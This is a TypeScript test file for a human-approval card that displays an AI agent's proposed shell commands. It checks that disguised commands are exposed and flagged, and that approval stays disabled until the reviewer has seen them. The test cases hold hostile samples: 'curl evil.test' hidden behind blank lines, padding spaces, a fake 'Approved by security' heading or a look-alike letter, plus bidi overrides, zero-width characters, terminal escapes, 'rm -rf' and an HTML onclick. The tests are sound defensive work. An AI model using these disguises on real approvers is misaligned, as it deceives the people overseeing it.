import { NextIntlClientProvider } from 'next-intl';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import messages from '../../messages/en.json' with { type: 'json' };
import { ApprovalActions } from './approval-actions.tsx';
import { ApprovalRequest, TrickChips } from './approval-request.tsx';

// The number is that of the adversarial tests, section B: what a request shows of itself.

const subject = (input: object) => ({
  cwd: '/workspace',
  env: [],
  hosts: [],
  imageDigest: '',
  input,
  paths: [],
  preconditions: [],
  tool: 'run_command',
  toolVersion: '1',
});

/** The trusted frame's parts as the page gets them, before anybody scrolled. */
function card(input: object, seen = false): string {
  const request = {
    approvalId: 'a1',
    digest: 'd'.repeat(64),
    tool: 'run_command',
    level: 'required',
    reason: 'It runs code.',
    canonicalText: JSON.stringify(subject(input)),
    scopeWords: null,
    scopeExamples: [],
    deadline: 0,
  };
  const nothing = () => undefined;
  const state = { request, seen, armed: false, panel: 'none' as const, busy: false };
  return renderToStaticMarkup(
    <NextIntlClientProvider locale="en" messages={messages} timeZone="UTC">
      <TrickChips canonicalText={request.canonicalText} />
      <ApprovalRequest request={request} end={{ current: null }} />
      <ApprovalActions {...state} onArm={nothing} onPanel={nothing} onAnswer={nothing} />
    </NextIntlClientProvider>,
  );
}

const { trick, approveOnce } = messages.approvals;
const hidden = /\p{Cf}|(?!\n)\p{Cc}/u;

test.each<[string, string, string[], string]>([
  [
    'blank lines before the harm',
    `echo ok${'\n'.repeat(500)}curl evil.test`,
    [trick.blankLines, trick.long],
    'curl evil.test',
  ],
  ['a right-to-left override', 'open \u202egnp.sh', [trick.bidi], '\\u202e'],
  ['zero width', 'rm\u200b -rf build', [trick.invisible], '\\u200b'],
  ['tag characters', 'ls \u{e0072}\u{e006d}', [trick.invisible], '\\u{e0072}'],
  ['terminal sequences', 'curl evil.test\u001b[2K\rls', [trick.control], '\\u001b'],
  [
    'a heading that claims an approval',
    '# Approved by security\ncurl evil.test',
    [trick.claim],
    '# Approved by security',
  ],
  ['HTML', '<button onclick="x">Safe</button>', [trick.markup], '&lt;button onclick=&quot;x&quot;&gt;'],
  [
    'a long script with harm near its end',
    `${'echo a\n'.repeat(290)}curl evil.test\n${'echo b\n'.repeat(9)}`,
    [trick.long],
    'curl evil.test',
  ],
  ['a look-alike letter in a program', '\u0441url evil.test', [trick.homoglyph], '\u0441url'],
  ['harm pushed out of sight', `ls${' '.repeat(300)}; curl evil.test`, [trick.farRight], 'curl evil.test'],
])(
  'security 21: %s is written out, named by a chip, and nothing can be approved unseen',
  (_, command, chips, shown) => {
    const page = card({ command });
    for (const chip of chips) expect(page).toContain(chip);
    expect(page).not.toMatch(hidden);
    expect(page).toContain(shown);
    expect(page).not.toMatch(/<button onclick|<h1|<script/i);
    if (command.length > 80) expect(page).toMatch(new RegExp(`${command.length.toLocaleString('en')}`));
    const button = (html: string) =>
      [...html.matchAll(/<button([^>]*)>(.*?)<\/button>/g)].find(([, , inside = '']) =>
        inside.includes(approveOnce),
      )?.[1];
    expect(button(page)).toContain('disabled=""');
    expect(button(card({ command }, true))).not.toContain('disabled=""');
  },
);

test('security 21: a plain command has no chip, so that a chip means something', () => {
  const page = card({ command: 'npm test' });
  for (const chip of Object.values(trick)) expect(page).not.toContain(chip);
});
